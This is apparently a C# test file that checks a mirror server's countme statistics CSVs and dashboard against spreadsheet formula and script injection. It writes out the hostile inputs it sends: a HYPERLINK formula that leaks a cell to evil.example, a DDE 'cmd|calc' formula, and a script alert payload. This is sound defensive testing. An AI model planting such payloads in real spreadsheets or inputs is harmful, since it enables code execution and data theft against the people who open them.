using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Pinger.Server.Campaigns.Tests.Infrastructure;

namespace Pinger.Server.Campaigns.Tests.Countme;

/// <summary>
/// Spreadsheet formulas and script sent as countme input to the published server, live on /metalink and /mirrorlist
/// and as the access-log lines of a complete week read by import-log: every CSV the server serves (public and admin)
/// is then read cell by cell. No text cell may begin with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab or CR unless it
/// is neutralised by a leading apostrophe, a negative countme is never counted, and the dashboard never shows the
/// script or the formula's link as a series.
/// </summary>
[TestClass]
public sealed class CountmeInjectionCampaignTests
{
    private const int Repeats = 12;
    private const string FormulaAgent = "libdnf (=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") <script>alert(1)</script> 41; coreos; Linux.x86_64)";
    private const string FormulaRepo = "=cmd|'/c calc'!A1";

    // (User-Agent, query): the attack as sent, then a valid countme with a formula repo, a formula variant, a formula
    // OS name, script as the OS name, and a browser with formula repo and arch.
    private static readonly (string Agent, string Query)[] Attacks =
    [
        (FormulaAgent, "repo==cmd|'/c%20calc'!A1&countme=-999999"),
        ("libdnf (Fedora Linux 41; coreos; Linux.x86_64)", "repo=" + Uri.EscapeDataString(FormulaRepo) + "&arch=x86_64&countme=1"),
        ("libdnf (Fedora Linux 41; -cmd; Linux.x86_64)", "repo=fedora-41&arch=x86_64&countme=2"),
        ("libdnf (=cmd|calc!A1 41; coreos; Linux.x86_64)", "repo=fedora-41&arch=x86_64&countme=3"),
        ("libdnf (<script>alert(1)</script> 41; coreos; Linux.x86_64)", "repo=%40SUM(1)&arch=x86_64&countme=4"),
        ("Mozilla/5.0 (+cmd)", "repo=%2Bcmd&arch=-x86_64&countme=1"),
    ];

    [TestMethod]
    public async Task Formulas_and_script_in_countme_input_are_never_published_live_or_imported()
    {
        using var directory = new CampaignDirectory("countmeinject");
        directory.ConfigureForCounting();

        // A complete week two weeks back, read by import-log before the server starts: public output shows it.
        var monday = Monday(DateTime.UtcNow).AddDays(-14);
        var log = Path.Combine(directory.Path, "access.log");
        File.WriteAllText(log, AccessLog(monday));
        var import = await PublishedCommand.RunAsync(["import-log", "--state-dir", directory.StateDirectory, log]);
        Assert.AreEqual(0, import.ExitCode, import.Output + import.Error);

        var serverLog = new ServerLog();
        using var server = await PublishedServer.StartAsync(directory.Arguments, serverLog);
        using var client = new HttpClient { BaseAddress = server.BaseAddress, Timeout = TimeSpan.FromSeconds(60) };
        var answers = new Dictionary<HttpStatusCode, int>();
        for (var i = 0; i < Repeats; i++)
        {
            foreach (var (agent, query) in Attacks)
            {
                foreach (var path in new[] { "/metalink", "/mirrorlist" })
                {
                    using var request = new HttpRequestMessage(HttpMethod.Get, path + "?" + query);
                    request.Headers.TryAddWithoutValidation("User-Agent", agent);
                    using var response = await client.SendAsync(request);
                    answers[response.StatusCode] = answers.GetValueOrDefault(response.StatusCode) + 1;
                }
            }
        }

        Assert.AreEqual(Repeats * Attacks.Length * 2, answers.GetValueOrDefault(HttpStatusCode.NoContent), string.Join(", ", answers));

        var publicCountme = await client.GetStringAsync("/v1/countme/totals.csv");
        var csvs = new Dictionary<string, string>
        {
            ["/v1/countme/totals.csv"] = publicCountme,
            ["/v1/totals.csv"] = await client.GetStringAsync("/v1/totals.csv"),
            ["/v1/systems.csv"] = await client.GetStringAsync("/v1/systems.csv"),
            ["/v1/countme/systems.csv"] = await client.GetStringAsync("/v1/countme/systems.csv"),
        };
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", CampaignDirectory.AdminToken);
        var liveCountme = await client.GetStringAsync("/v1/admin/countme/totals.csv?provisional=1");
        csvs["/v1/admin/countme/totals.csv?provisional=1"] = liveCountme;
        csvs["/v1/admin/totals.csv"] = await client.GetStringAsync("/v1/admin/totals.csv");
        csvs["/v1/admin/systems.csv"] = await client.GetStringAsync("/v1/admin/systems.csv");
        client.DefaultRequestHeaders.Authorization = null;
        var dashboard = await client.GetStringAsync("/?window=week");
        Assert.AreEqual(0, server.Terminate());

        var cells = 0;
        foreach (var (path, csv) in csvs)
        {
            foreach (var row in Rows(csv))
            {
                foreach (var cell in row)
                {
                    cells++;
                    Assert.IsFalse(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal) && !IsPlainNumber(cell),
                        $"{path}: the cell <{cell}> would be read as a formula");
                }
            }

            Assert.DoesNotContain("999999", csv, $"{path}: a negative countme was counted");
        }

        var importedWeek = monday.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
        var liveWeek = Monday(DateTime.UtcNow).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
        foreach (var (name, csv, week) in new[] { ("imported, public", publicCountme, importedWeek), ("live, admin", liveCountme, liveWeek) })
        {
            var rows = Rows(csv).Skip(1).Where(r => r[0] == week).ToList();
            Assert.IsTrue(rows.Any(r => r[8] == "'" + FormulaRepo && r[3] == "Fedora Linux" && r[7] == "1"), $"{name}: the formula repo is counted, neutralised:\n{csv}");
            Assert.IsTrue(rows.Any(r => r[5] == "'-cmd"), $"{name}: the formula variant is counted, neutralised:\n{csv}");
            Assert.IsTrue(rows.Any(r => r[3] == "'=cmd|calc!A1"), $"{name}: the formula OS name is counted, neutralised:\n{csv}");
            Assert.IsTrue(rows.Any(r => r[3] == string.Empty && r[8] == "'@SUM(1)" && r[7] == "4"), $"{name}: script in the OS name counts with empty OS fields:\n{csv}");
            Assert.IsTrue(rows.Any(r => r[3] == string.Empty && r[8] == "'+cmd" && r[9] == "'-x86_64"), $"{name}: a browser counts with empty OS fields:\n{csv}");
            Assert.IsFalse(rows.Any(r => r.Any(c => c.Contains("HYPERLINK", StringComparison.Ordinal) || c.Contains("script", StringComparison.Ordinal))), $"{name}: the attack's User-Agent text is kept:\n{csv}");
        }

        StringAssert.Contains(dashboard, "data-series=\"Fedora 41\"", "the dashboard shows the imported week (countme's \"Fedora Linux\" 41 reads \"Fedora 41\")");
        foreach (var needle in new[] { "alert(1)", "HYPERLINK", "evil.example" })
        {
            Assert.DoesNotContain(needle, dashboard, $"the dashboard shows attack text ({needle}) as a series");
        }

        const string Campaign = "countme injection";
        Figures.Record(TestContext, Campaign, "live requests", Repeats * Attacks.Length * 2);
        Figures.Record(TestContext, Campaign, "imported lines", Repeats * Attacks.Length * 2 + 1);
        Figures.Record(TestContext, Campaign, "CSV cells checked", cells);
        Figures.Record(TestContext, Campaign, "cells read as a formula", 0);
    }

    public TestContext TestContext { get; set; } = null!;

    private static DateTime Monday(DateTime day) => day.Date.AddDays(-(((int)day.DayOfWeek + 6) % 7));

    // The same attacks as Apache writes them (a double quote in a header as \"), on Tuesday of the week, from one
    // address each and a second apart (no duplicates); a hit a week later closes the week.
    private static string AccessLog(DateTime monday)
    {
        var text = new StringBuilder();
        var second = 0;
        for (var i = 0; i < Repeats; i++)
        {
            foreach (var (agent, query) in Attacks)
            {
                foreach (var path in new[] { "/metalink", "/mirrorlist" })
                {
                    second++;
                    text.Append(Line(monday.AddDays(1).AddSeconds(second), $"192.0.2.{second % 250}", $"GET {path}?{query} HTTP/1.1", agent.Replace("\"", "\\\"", StringComparison.Ordinal)));
                }
            }
        }

        text.Append(Line(monday.AddDays(8), "192.0.2.1", "GET /metalink?repo=fedora-41&arch=x86_64&countme=1 HTTP/1.1", "libdnf (Fedora Linux 41; coreos; Linux.x86_64)"));
        return text.ToString();
    }

    private static string Line(DateTime time, string address, string request, string agent) =>
        $"{address} - - [{time.ToString("dd/MMM/yyyy:HH:mm:ss", CultureInfo.InvariantCulture)} +0000] \"{request}\" 200 100 \"-\" \"{agent}\"\n";

    private static bool IsPlainNumber(string cell) =>
        System.Text.RegularExpressions.Regex.IsMatch(cell, @"\A[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?\z");

    // RFC 4180: quoted cells may hold commas, doubled quotes and line breaks.
    private static List<List<string>> Rows(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }

        Assert.AreEqual(0, cell.Length + row.Count, "every line ends with a newline");
        return rows;
    }
}
